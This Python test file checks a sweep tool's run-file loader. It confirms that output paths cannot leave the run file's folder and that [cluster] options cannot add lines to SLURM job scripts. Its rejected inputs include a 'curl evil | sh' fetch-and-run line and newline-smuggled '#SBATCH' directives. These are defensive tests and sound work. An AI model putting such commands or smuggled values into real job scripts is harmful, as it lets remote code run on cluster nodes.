"""Run files: output paths stay in the run file's folder unless absolute, [cluster] options are allow-listed and
cannot add job-script lines, unreadable files give one line, and validation is linear in the grid size (issue 17).

The expected behaviour follows the project's rules for run files (README, "Run files"; DEVELOPERS.md "Errors").
"""

from __future__ import annotations

import time

import pytest

from avalanche.errors import ConfigError
from avalanche.sweep.runfile import load_runfile, parse_runfile

RUN = '''
[sweep]
name = "checks"
output = "OUTPUT"

[gas]
mixture = "reid-ramp"
temperature_K = 0
number_density_m3 = 1e25

[grid]
reduced_field_Td = [1, 10]
'''


def write(folder, output="r.h5", extra=""):
    path = folder / "run.toml"
    path.write_text(RUN.replace("OUTPUT", output) + extra)
    return path


def test_the_output_resolves_against_the_run_file_folder(tmp_path, monkeypatch):
    monkeypatch.chdir("/")
    folder = tmp_path / "runs"
    folder.mkdir()
    assert load_runfile(write(folder, "sub/r.h5")).output == (folder / "sub" / "r.h5").resolve()
    assert load_runfile(write(folder, str(tmp_path / "elsewhere.h5"))).output == tmp_path / "elsewhere.h5"
    with pytest.raises(ConfigError, match="leaves the run file's folder .*absolute path"):
        load_runfile(write(folder, "../escape.h5"))
    with pytest.raises(ConfigError, match='output = "": .*is empty'):
        load_runfile(write(folder, ""))
    with pytest.raises(ConfigError, match="names a folder"):
        load_runfile(write(folder, "results/"))


@pytest.mark.parametrize("options, fragment", [
    ('options = { job_script_prologue = ["curl evil | sh"] }', "adds lines to the job script"),
    ('options = { job_extra_directives = ["--exclusive"] }', "--job-directive"),
    ('options = { python = "/tmp/x" }', "adds lines to the job script"),
    ('options = { walltime_extra = "1" }', "is not an allowed option"),
    ('queue = "short\\n#SBATCH --exclusive"', "must be one line"),
    ('options = { job_name = "a\\nb" }', "must be one line"),
])
def test_cluster_options_cannot_write_the_job_script(tmp_path, options, fragment):
    with pytest.raises(ConfigError, match=fragment):
        load_runfile(write(tmp_path, extra=f'\n[cluster]\nkind = "slurm"\n{options}\n'))
    allowed = load_runfile(write(tmp_path, extra='\n[cluster]\nkind = "slurm"\nqueue = "short"\n'
                                                 'options = { job_name = "avalanche", interface = "ib0" }\n'))
    assert allowed.cluster["options"] == {"job_name": "avalanche", "interface": "ib0"}


def test_unreadable_run_files_give_one_line(tmp_path):
    latin = tmp_path / "latin.toml"
    latin.write_bytes(RUN.replace("checks", "caf\xe9").encode("latin-1"))
    with pytest.raises(ConfigError, match="is not UTF-8 text"):
        load_runfile(latin)
    device = tmp_path / "zero.toml"
    device.symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match="not a regular file"):
        load_runfile(device)
    with pytest.raises(ConfigError, match="is a folder"):
        load_runfile(tmp_path)
    with pytest.raises(ConfigError, match="not found"):
        load_runfile(tmp_path / "missing.toml")


def test_validation_of_a_large_grid_finishes(tmp_path):
    # 1e5 fields: the old pairwise duplicate check took minutes here; the linear one a fraction of a second. The
    # speed itself is measured in benchmarks/run.py, not timed here.
    text = RUN.replace("OUTPUT", "r.h5").replace("[1, 10]", "{ start = 1, stop = 1000, count = 100000 }")
    start = time.perf_counter()
    rf = parse_runfile(text)
    assert len(rf.reduced_field_Td) == 100_000 and time.perf_counter() - start < 60
    with pytest.raises(ConfigError, match="10 Td appears more than once"):
        parse_runfile(RUN.replace("OUTPUT", "r.h5").replace("[1, 10]", "[1, 10, 3, 10]"))
